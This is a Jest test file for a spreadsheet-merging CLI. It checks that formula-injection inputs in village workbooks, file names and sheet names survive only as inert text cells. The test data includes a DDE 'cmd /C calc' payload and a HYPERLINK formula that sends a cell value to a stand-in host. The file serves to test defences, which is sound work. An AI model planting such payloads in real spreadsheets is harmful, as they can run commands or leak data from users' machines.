/**
 * Texts that a spreadsheet would calculate, in cells, headers, sheet names and the file's name of a
 * village: the built command line hands every one of them on as text.
 */
import { spawnSync } from "node:child_process";
import {
  copyFileSync,
  existsSync,
  mkdtempSync,
  mkdirSync,
  readFileSync,
  readdirSync,
} from "node:fs";
import os from "node:os";
import path from "node:path";
import { beforeAll, describe, expect, test } from "@jest/globals";
import { strFromU8, unzipSync } from "fflate";

const CLI = path.resolve("dist/cli/minqing.cjs");
const FIXTURE = path.resolve("test/fixtures/hostile/hostile.xlsx");
const FILE_NAME = "=cmd' C calc'!A0+86@SUM(A1)＝1 龙河村.xlsx";
const SHEETS = ["=cmd|' C calc'!A0", "@SUM(A1) +民生诉求"];
const HEADERS = ["+86@SUM(A1)", "=1+1"];
/** As in make.py. */
const TEXTS = [
  "=cmd|' /C calc'!A0",
  "+86 139 0000 0001",
  "@SUM(A1)",
  "＝1+1",
  "-2+3",
  '=HYPERLINK("http://example.invalid/?q="&A1,"点这里")',
  "<f>1+1</f>]]>&lt;",
];

interface Cell {
  readonly text: string;
  readonly type: string;
  readonly isText: boolean;
}

/** The parts of a package, and every cell with a text: its type, and whether its style says text. */
interface Opened {
  readonly names: readonly string[];
  readonly xml: string;
  readonly workbook: string;
  readonly formulas: readonly string[];
  readonly cells: readonly Cell[];
}

const folder = mkdtempSync(path.join(os.tmpdir(), "minqing-hostile-"));
const at = (...names: readonly string[]) => path.join(folder, ...names);

function plain(xml: string): string {
  const named = { lt: "<", gt: ">", quot: '"', apos: "'", amp: "&" } as const;
  return xml.replace(/&(?:#(\d+)|(lt|gt|quot|apos|amp));/g, (_, code?: string, name?: string) =>
    code === undefined ? named[name as keyof typeof named] : String.fromCodePoint(Number(code)),
  );
}

function open(file: string): Opened {
  const parts = Object.entries(unzipSync(readFileSync(file))).map(
    ([name, bytes]) => [name, strFromU8(bytes)] as const,
  );
  const part = (name: string) => parts.find(([it]) => it === name)?.[1] ?? "";
  const [, formats = ""] = /<cellXfs[^>]*>(.*)<\/cellXfs>/s.exec(part("xl/styles.xml")) ?? [];
  const styles = [...formats.matchAll(/<xf ([^>]*)>/g)].map(([, head = ""]) => head);
  const sheets = parts.filter(([name]) => name.startsWith("xl/worksheets/")).map(([, xml]) => xml);
  const cells = sheets.flatMap((xml) =>
    [...xml.matchAll(/<c ([^>]*[^/])>(.*?)<\/c>/gs)].map(([, head = "", body = ""]): Cell => {
      const style = styles[Number(/ s="(\d+)"/.exec(` ${head}`)?.[1] ?? 0)] ?? "";
      return {
        text: plain(
          /<t[^>]*>(.*?)<\/t>/s.exec(body)?.[1] ?? /<v>(.*?)<\/v>/s.exec(body)?.[1] ?? "",
        ),
        type: / t="(\w+)"/.exec(` ${head}`)?.[1] ?? "n",
        isText: style.includes('numFmtId="49"') || style.includes('quotePrefix="1"'),
      };
    }),
  );
  const formulas = sheets.flatMap((xml) =>
    [...xml.matchAll(/<f[ >][^<]*|<f\/>/g)].map(([found]) => plain(found.replace(/^<f[^>]*>/, ""))),
  );
  return {
    names: parts.map(([name]) => name),
    xml: parts.map(([, xml]) => xml).join("\n"),
    workbook: part("xl/workbook.xml"),
    formulas,
    cells,
  };
}

let summary: Opened;
let slip: Opened;

beforeAll(() => {
  if (!existsSync(CLI)) throw new Error("dist/cli is missing: run npm run build");
  mkdirSync(at("各村"));
  copyFileSync(FIXTURE, at("各村", FILE_NAME));
  const options = ["--out", "汇总.xlsx", "--slips", "退回单", "--month", "2026-11"];
  const { status, stderr } = spawnSync(
    process.execPath,
    [CLI, "merge", "各村", ...options, "--as-of", "2026-11-30"],
    { cwd: folder, encoding: "utf8" },
  );
  if (status !== 1) throw new Error(`exit ${String(status)}: ${stderr}`);
  summary = open(at("汇总.xlsx"));
  const [name = ""] = readdirSync(at("退回单"));
  slip = open(at("退回单", name));
});

describe.each([
  ["汇总.xlsx", () => summary],
  ["退回单", () => slip],
])("%s", (_, opened) => {
  test.each(TEXTS)("%j stands there, as a text in a cell made for text", (text) => {
    const cells = opened().cells.filter((cell) => cell.text === text);
    expect(cells).not.toHaveLength(0);
    for (const cell of cells) expect(cell).toMatchObject({ type: "inlineStr", isText: true });
  });

  test.each([...SHEETS, ...HEADERS])("the name %j too", (name) => {
    const holding = opened().cells.filter((cell) => cell.text.includes(name));
    expect(holding).not.toHaveLength(0);
    for (const cell of holding) expect(cell.type).toBe("inlineStr");
  });

  test("whatever begins like a formula, our sentences included, is a text", () => {
    const risky = opened().cells.filter(({ text }) => /^[=+\-@＝＋－＠\t\r]/.test(text));
    expect(risky.length).toBeGreaterThan(TEXTS.length);
    for (const cell of risky) expect(cell).toMatchObject({ type: "inlineStr", isText: true });
  });

  test("has no link to anywhere", () => {
    expect(opened().names.filter((name) => /externalLink|connections|ddeLink/i.test(name))).toEqual(
      [],
    );
    expect(opened().xml).not.toMatch(/<hyperlink |TargetMode="External"|<calculatedColumnFormula/);
  });
});

test("the only formulas of the summary are our own sums", () => {
  expect(summary.formulas.length).toBeGreaterThan(0);
  for (const formula of summary.formulas) {
    expect(formula).toMatch(/^(SUM\([A-Z]+\d+(:[A-Z]+\d+)?\)|[A-Z]+\d+(-[A-Z]+\d+){3})$/);
  }
});

test("the slip has no formula", () => {
  expect(slip.formulas).toEqual([]);
});

test("the file's name stands in the summary as a text", () => {
  const cells = summary.cells.filter(({ text }) => text === FILE_NAME);
  expect(cells).not.toHaveLength(0);
  for (const cell of cells) expect(cell).toMatchObject({ type: "inlineStr", isText: true });
});

test("the slip keeps the names of the sheets, and the print titles refer to them in quotes", () => {
  const names = [...slip.workbook.matchAll(/<sheet name="([^"]*)"/g)].map(([, name]) =>
    plain(name ?? ""),
  );
  expect(names).toEqual(["修改说明", ...SHEETS]);
  const titles = [...slip.workbook.matchAll(/<definedName [^>]*>([^<]*)</g)].map(([, ref]) =>
    plain(ref ?? ""),
  );
  expect(titles).toEqual(expect.arrayContaining(["'=cmd|'' C calc''!A0'!$2:$2"]));
});
